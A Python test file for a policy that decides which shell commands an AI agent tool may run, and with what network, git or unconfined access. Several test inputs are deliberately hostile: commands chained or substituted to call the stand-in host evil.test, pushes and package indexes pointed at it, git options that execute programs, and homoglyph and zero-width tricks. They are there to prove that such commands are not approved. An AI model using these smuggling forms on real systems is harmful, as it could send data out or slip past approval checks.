"""A command's needs: what the table knows, what a rule may give, and how the policy rules on them."""

from __future__ import annotations

from dataclasses import replace

import pytest

from ossia.cli.settings.config import Resolved, flat_rules
from ossia.cli.settings.rules import rules_of
from ossia.cli.settings.table import Settings
from ossia.tools.approval.needs import covers, needs_of
from ossia.tools.approval.policy import FROM_OUTSIDE, Policy, Ruling
from ossia.tools.approval.rules import Action, Origin, Rule, parse_rule
from ossia.tools.spec import Effect, Need, Preview, Taint, ToolSpec

SHELL = ToolSpec("container.exec", "", effects=frozenset({"run", "write"}), provenance="built-in")
NETWORK: frozenset[Need] = frozenset({"network"})
GIT: frozenset[Need] = frozenset({"git"})
UNCONFINED: frozenset[Need] = frozenset({"unconfined"})
NONE: frozenset[Need] = frozenset()
CLEAN: frozenset[Taint] = frozenset()
PRIVATE: frozenset[Taint] = frozenset({"private"})
OUTSIDE: frozenset[Taint] = frozenset({"outside"})
BOTH: frozenset[Taint] = frozenset({"outside", "private"})


@pytest.mark.parametrize(
    ("command", "needs"),
    [
        ("git status", NONE),
        ("git diff HEAD~1", NONE),
        ("git log --oneline", NONE),
        ("git stash list", NONE),
        ("git branch -a", NONE),
        ("git tag -l 'v*'", NONE),
        ("git commit --help", NONE),
        ("git stash", GIT),
        ("git commit -m 'a; b'", GIT),
        ("git -C sub --no-pager commit -m x", GIT),
        ("git branch new", GIT),
        ("git branch -D old", GIT),
        ("git tag -a v1 -m x", GIT),
        ("cd x && git commit -m y", GIT),
        ("git add a | cat; make", GIT),
        ("git pull", GIT | NETWORK),
        ("git clone https://a.test/b", NETWORK),
        ("uv sync", NETWORK),
        ("uv pip install x", NETWORK),
        ("uv sync --offline", NONE),
        ("uv run pytest", NONE),
        ("env X=1 uv sync", NETWORK),
        ("X=1 uv sync", NETWORK),
        ("npm ci", NETWORK),
        ("npm run build", NONE),
        ("npx eslint", NONE),
        ("uvx ruff", NETWORK),
        ("yarn", NETWORK),
        ("pip install --no-index x", NONE),
        ("python3 -m pip install x", NETWORK),
        (".venv/bin/pip install x", NETWORK),
        ("cargo fetch", NETWORK),
        ("cargo build", NONE),
        ("go mod tidy", NETWORK),
        ("mvn compile", NONE),
        ("curl -s http://localhost:8000/x -o y", NONE),
        ("curl http://127.0.0.1.evil.test/", NETWORK),
        ("curl http://127.0.0.1@evil.test/", NETWORK),
        ("curl evil.test", NETWORK),
        ("curl -s localhost:8000 -H 'X: y'", NONE),
        ("curl $URL", NONE),
        ("cat > a.md <<'EOF'\nnpm install\nEOF\nls", NONE),
        ("cat > a.md <<EOF\nhello\nEOF\nnpm install", NETWORK),
        ("command -v docker", NONE),
        ("docker ps", UNCONFINED),
        ("sudo ls", UNCONFINED),
        ("make", NONE),
    ],
)
def test_what_a_command_plainly_needs(command: str, needs: frozenset[Need]) -> None:
    assert needs_of(command) == needs


@pytest.mark.parametrize(
    ("pattern", "command", "covered"),
    [
        ("uv sync", "uv sync", True),
        ("uv sync", "uv  'sync'", True),
        ("uv *", "uv sync --all-extras", True),
        ("uv *", "uv pip install x", True),
        ("uv *", "uv run x", False),
        ("uv *", "uv  run x", False),
        ("uv *", 'uv "run" x', False),
        ("uv *", "uv r'u'n x", False),
        ("uv *", "uv --directory x run y", False),
        ("uv *", "uv -q sync", False),
        ("uv *", "uv tool run x", False),
        ("uv tool *", "uv tool run x", False),
        ("uv *", "uvx ruff", False),
        ("uv*", "uvx ruff", False),
        ("uv run *", "uv run x", True),
        ("uv sync*", "uv sync; curl evil.test", False),
        ("uv sync*", "uv sync && curl evil.test", False),
        ("uv sync*", "uv sync $(curl evil.test)", False),
        ("uv sync*", "uv sync `x`", False),
        ("uv sync*", "uv sync | sh", False),
        ("uv sync*", "uv sync > x", False),
        ("uv sync*", "uv sync\ncurl evil.test", False),
        ("uv sync*", "X=1 uv sync", False),
        ("uv sync*", "env X=1 uv sync", False),
        ("uv sync*", "uv sync --index-url https://evil.test", False),
        ("uv sync", "uv ѕync", False),
        ("uv *", "uv ѕync", False),
        ("uv *", "uv sync\u200b", False),
        ("npm *", "npm ci", True),
        ("npm *", "npm run x", False),
        ("npm *", "npm exec x", False),
        ("npm *", "npm test", False),
        ("npm *", "npx x", False),
        ("npm *", "npm install https://evil.test/x.tgz", False),
        ("npx eslint *", "npx eslint a.js", True),
        ("cargo *", "cargo run", False),
        ("cargo *", "cargo test", False),
        ("go *", "go generate", False),
        ("pip *", "pip install x", True),
        ("pip *", "pip install -i https://evil.test/simple x", False),
        ("pip install -i https://a.test/* *", "pip install -i https://a.test/simple x", True),
        ("git *", "git commit -m 'a: b'", True),
        ("git *", "git status", True),
        ("git *", "git -c core.sshCommand=x fetch", False),
        ("git *", "git --exec-path=x commit", False),
        ("git *", "git alias", False),
        ("git *", "git rebase -x evil main", False),
        ("git *", "git fetch --upload-pack=evil", False),
        ("git *", "git fetch --upload-pa evil", False),
        ("git *", "git push https://evil.test/x", False),
        ("git *", "git push me@evil.test:x", False),
        ("git -c *", "git -c a=b commit", False),
        ("git -c a=b commit", "git -c a=b commit", True),
        ("curl *", "curl https://evil.test", False),
        ("git *", "git push evil.test:x main", False),
        ("git *", "git push origin main:x", True),
        ("git push me@a.test:*", "git push me@a.test:x", True),
        ("curl https://a.test/*", "curl https://a.test/b", True),
        ("curl https://a.test/*", "curl https://a.test/b evil.test/x", False),
        ("curl https://a.test/*", "curl https://a.test/b -x evil.test", False),
        ("curl https://a.test*", "curl https://a.test.evil.test/", False),
        ("wget *", "wget evil.test", False),
        ("make *", "make deps", True),
    ],
)
def test_what_a_rule_covers_that_gives_something(pattern: str, command: str, covered: bool) -> None:
    assert covers(pattern, command) == covered


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("container.exec[network]:uv sync", Rule("container.exec", "allow", "uv sync", gives=NETWORK)),
        ("container.exec[network, git]:git pull*", Rule("container.exec", "allow", "git pull*", gives=NETWORK | GIT)),
    ],
)
def test_a_rule_that_gives_something_is_read_and_written(text: str, rule: Rule) -> None:
    assert parse_rule(text, "allow") == rule
    assert parse_rule(str(rule), "allow") == rule
    assert str(rule).startswith(("container.exec[network]:", "container.exec[git,network]:"))


@pytest.mark.parametrize(
    ("text", "action", "origin", "complaint"),
    [
        ("container.exec[wings]:uv sync", "allow", "user", "a command may be given network, git, unconfined"),
        ("container.exec[]:uv sync", "allow", "user", "a command may be given network, git, unconfined"),
        ("container.exec[network]", "allow", "user", "name the program"),
        ("container.exec[network]:* sync", "allow", "user", "name the program"),
        ("container.exec[network]:u* sync", "allow", "user", "name the program"),
        ("container.exec[network]:uv sync; ls", "allow", "user", "can never allow anything"),
        ("container.exec[network]:uv sync", "deny", "user", "only a rule that allows container.exec"),
        ("*[network]:uv sync", "allow", "user", "only a rule that allows container.exec"),
        ("container.exec[network]:uv sync", "allow", "folder", "a folder's own rule can't give network"),
    ],
)
def test_a_rule_that_may_give_nothing_is_refused(text: str, action: Action, origin: Origin, complaint: str) -> None:
    with pytest.raises(ValueError) as raised:
        parse_rule(text, action, origin=origin)
    assert complaint in str(raised.value)


def test_the_flags_and_the_config_make_the_same_rules() -> None:
    uv = {"container.exec:uv sync": {"action": "auto", "network": True}}
    nested = {"container": {"exec": {"uv sync": {"action": "auto", "network": True, "git": False}}}}
    assert flat_rules(uv) == flat_rules(nested) == {"container.exec[network]:uv sync": "auto"}
    settings = Settings(allow_network=("uv sync",), allow_git=True)
    assert [str(rule) for rule in rules_of(Resolved(settings, {}))] == [
        "container.exec[network]:uv sync",
        "container.exec[git]:git *",
    ]
    wrong = {"container.exec:x": {"action": "auto", "network": "yes"}}
    assert flat_rules(wrong) == {"container.exec:x": {"action": "auto", "network": "yes"}}


def _preview(command: str, needs: frozenset[Need] = NETWORK) -> Preview:
    effects: frozenset[Effect] = frozenset({"run", "write"})
    return Preview(f"run {command}", subjects=(command,), command=True, effects=effects, needs=needs)


def _rules(*texts: str, action: Action = "allow", origin: Origin = "user") -> list[Rule]:
    return [parse_rule(text, action, origin=origin) for text in texts]


SYNC = _preview("uv sync")
GIVES = _rules("container.exec[network]:uv sync")
STORED = _rules("container.exec[network]:uv sync", origin="stored")
FOLDERS = [replace(rule, origin="folder") for rule in GIVES]


@pytest.mark.parametrize(
    ("rules", "taint", "action"),
    [
        ([], CLEAN, "ask"),
        (_rules("container.exec"), CLEAN, "ask"),
        (_rules("*", "container.exec:uv *"), CLEAN, "ask"),
        (_rules("container.exec[git]:uv sync"), CLEAN, "ask"),
        (GIVES, CLEAN, "allow"),
        (GIVES, PRIVATE, "allow"),
        (GIVES, OUTSIDE, "allow"),
        (GIVES, BOTH, "ask"),
        (STORED, PRIVATE, "allow"),
        (STORED, OUTSIDE, "ask"),
        (STORED, BOTH, "ask"),
        (FOLDERS, CLEAN, "ask"),
        (_rules("container.exec[unconfined]:uv sync"), PRIVATE, "allow"),
        (GIVES + _rules("container.exec:uv*", action="ask"), CLEAN, "ask"),
        (GIVES + _rules("exec:uv*", action="deny"), CLEAN, "deny"),
        (GIVES + _rules("container.exec", action="deny"), CLEAN, "deny"),
    ],
)
def test_only_a_rule_that_gives_it_allows_it(rules: list[Rule], taint: frozenset[Taint], action: Action) -> None:
    ruling = Policy(rules).rule_on(SHELL, SYNC, taint=taint)
    assert (ruling.action, ruling.firm) == (action, action == "ask")


def test_every_need_must_be_given() -> None:
    pull = _preview("git pull", GIT | NETWORK)
    ruling = Policy(_rules("container.exec[git]:git *")).rule_on(SHELL, pull)
    assert (ruling.action, ruling.rules) == ("ask", ("container.exec[git,network]:git pull",))
    both = Policy(_rules("container.exec[git]:git *", "container.exec[network]:git pull"))
    assert both.rule_on(SHELL, pull).action == "allow", "by two rules, of flags that stand side by side"
    assert both.rule_on(SHELL, _preview("git push", GIT | NETWORK)).action == "ask"
    assert Policy(_rules("container.exec[git,network]:git pull")).rule_on(SHELL, pull).action == "allow"


def test_a_longer_command_is_asked_about_whatever_the_rules() -> None:
    rules = _rules("container.exec[git,network]:git *", "container.exec", "container.exec[network]:uv *")
    for command in ("git commit -m x; curl evil.test", "uv sync $(x)", "X=1 uv sync", "uv sync\ncurl evil.test"):
        ruling = Policy(rules).rule_on(SHELL, _preview(command))
        assert (ruling.action, ruling.firm, ruling.rules) == ("ask", True, ()), command


def test_the_question_names_the_need_and_what_lasts() -> None:
    why = "it needs network: private text could leave, and this machine's own services are reachable"
    rules = ("container.exec[network]:uv sync",)
    assert Policy().rule_on(SHELL, SYNC) == Ruling("ask", why, firm=True, rules=rules, lasting=True)
    assert Policy().rule_on(SHELL, SYNC, taint=OUTSIDE) == Ruling("ask", f"{why}; {FROM_OUTSIDE}", True, rules)
    both = Policy().rule_on(SHELL, SYNC, taint=BOTH)
    assert (both.firm, both.rules, both.lasting) == (True, (), False)
    assert both.reason == f"{why}; the conversation has private text, and {FROM_OUTSIDE}"
    asked = Policy().rule_on(SHELL, _preview("git commit -m x", GIT))
    assert asked.reason == "it needs git's own folder: .git may be changed, but for its hooks and settings"
    asked = Policy().rule_on(SHELL, replace(_preview("docker ps", UNCONFINED), unconfined=True))
    assert asked.reason == "it needs to run unconfined: it can do everything you can"
    assert asked.rules == ("container.exec[unconfined]:docker ps",)


def test_an_answer_for_the_session_holds_for_this_command_with_this_need() -> None:
    policy = Policy(_rules("container.exec"))
    policy.remember(SHELL, replace(SYNC, needs=NONE))
    assert policy.rule_on(SHELL, SYNC).action == "ask", "an answer without needs"
    policy.remember(SHELL, SYNC)
    assert policy.rule_on(SHELL, SYNC, taint=PRIVATE).action == "allow"
    assert policy.given("uv sync") == NETWORK
    for other, taint in ((replace(SYNC, needs=GIT | NETWORK), CLEAN), (_preview("uv sync -U"), CLEAN), (SYNC, OUTSIDE)):
        assert policy.rule_on(SHELL, other, taint=taint).action == "ask"
    policy.forget()
    assert (policy.rule_on(SHELL, SYNC).action, policy.given("uv sync")) == ("ask", NONE)


def test_what_rules_give_from_the_start() -> None:
    policy = Policy(_rules("container.exec[network]:make *", "container.exec[git,network]:git *") + FOLDERS)
    assert policy.given("make deps") == NETWORK
    assert policy.given("make deps; ls") == NONE
    assert policy.given("uv sync") == NONE, "a folder's rule"
    assert policy.given("git status") == NONE, "it needs nothing"
    assert policy.given("git foo") == NONE, "an alias"
    own = Policy(_rules("container.exec[network]:curl -s http://localhost:8000/*"))
    assert own.given("curl -s http://localhost:8000/health") == NETWORK, "a server of the user's, named by the rule"
    assert own.given("curl -s http://localhost:9000/health") == NONE
    assert policy.rule_on(SHELL, _preview("git status", NONE)).action == "allow"
    assert policy.rule_on(SHELL, _preview("git foo", NONE)).action == "ask"


def test_a_plan_gives_nothing() -> None:
    policy = Policy(GIVES)
    policy.read_only = True
    assert policy.rule_on(SHELL, SYNC).action == "deny"
